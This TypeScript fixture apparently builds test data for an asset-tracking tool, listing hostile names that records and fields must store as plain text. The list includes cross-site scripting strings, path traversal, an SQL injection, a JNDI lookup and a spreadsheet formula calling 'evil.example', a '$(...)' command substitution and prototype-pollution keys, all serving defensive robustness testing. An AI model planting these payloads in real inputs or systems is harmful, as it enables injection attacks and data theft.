import { choices, dateBetween } from './recipe';
import type { Recipe } from './recipe';

/** Names that have broken other tools: each has to be shown, sent and stored as what it is, a text. */
export const HOSTILE_NAMES: readonly string[] = [
  'Long name that goes on and on, '.repeat(7).slice(0, 200),
  '😀'.repeat(200),
  '🖥️ Reception 👩‍💻 desk 🇪🇺',
  'invoice_\u202Egpj.exe',
  'bell\u0007 escape\u001B[31m delete\u007F tab\t',
  '__proto__',
  'constructor',
  '../..',
  '..\\..\\windows\\system32',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](command:evil)',
  '$(trash) Retired',
  '"double" \'single\' `back`',
  '=HYPERLINK("http://evil.example","x")',
  '+1 (555) 0100',
  '-2+3',
  '@SUM(A1:A9)',
  'CON',
  'a/b\\c:d*e?f"g|h',
  'zero\u200Bwidth\u200D\uFEFF',
  '%2e%2e%2f%00',
  '  blanks around  ',
  'null',
  '0012',
  '1e5',
  'مرحبا بالعالم',
  '日本語のノートパソコン',
  'e\u0301 is not \u00E9',
  "Robert'); DROP TABLE assets;--",
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return 1")()}}',
];

const STATUS = choices(431, 'Active', 'Active', 'Retired', 'active', '$(trash) Gone');
const TAGS = choices(451, 'EU', 'EU', '[x](command:evil)', '__proto__');

/** What an old import left behind: every kind of field, fields of one name, choices of one label, and hostile names everywhere. */
export const legacy: Recipe = {
  type: { id: 9, name: 'Legacy Import', description: 'Imported from a spreadsheet; to be cleaned up' },
  fields: [
    { id: 130, name: 'Serial Number', kind: 'text' },
    { id: 131, name: 'Serial Number', kind: 'text' },
    { id: 132, name: 'Status', kind: 'dropdown', choices: STATUS },
    { id: 133, name: '__proto__', kind: 'text' },
    { id: 134, name: 'constructor', kind: 'text' },
    { id: 135, name: '=1+1', kind: 'number' },
    { id: 136, name: 'Tags', kind: 'multiple', choices: TAGS },
    { id: 137, name: 'Seen', kind: 'date' },
    { id: 138, name: 'Notes', kind: 'textarea' },
    { id: 139, name: 'Serial Number (#130)', kind: 'text' },
    { id: 140, name: 'Column 11 "quoted", with a comma', kind: 'text' },
    { id: 141, name: '<b>Bold</b> [x](command:evil)', kind: 'text' },
    { id: 142, name: 'A field with a long name, '.repeat(8).slice(0, 200), kind: 'text' },
    { id: 143, name: 'Weird\u202E characters\u0007', kind: 'text' },
  ],
  share: HOSTILE_NAMES.length,
  isFixed: true,
  make: (index, random) => {
    const turn = Math.floor(index / HOSTILE_NAMES.length);
    const hostile = HOSTILE_NAMES[index % HOSTILE_NAMES.length] ?? '';
    const suffix = turn === 0 ? '' : ` ${turn + 1}`;
    const name =
      Array.from(hostile)
        .slice(0, 200 - suffix.length)
        .join('') + suffix;
    return {
      // Every third has its hostile name as display id too.
      displayId: index % 3 === 0 ? name : `0${1000 + index}`,
      name,
      ownedShare: 0.3,
      values: {
        130: random.letters(8),
        131: `SN ${random.letters(8)}`,
        132: random.pick(STATUS).id,
        133: 'polluted?',
        134: hostile,
        135: random.between(-100, 100) / 4,
        136: [random.pick(TAGS).id],
        137: dateBetween(random, '1999-12-31', '2024-02-29'),
        138: `First line\n\tsecond line, from ${hostile}\r\nthird`,
        139: '0',
        140: 'a "quote", a comma; a semicolon\tand a tab',
        141: hostile,
        142: ' ',
        143: random.chance(0.5) ? '' : null,
      },
    };
  },
};
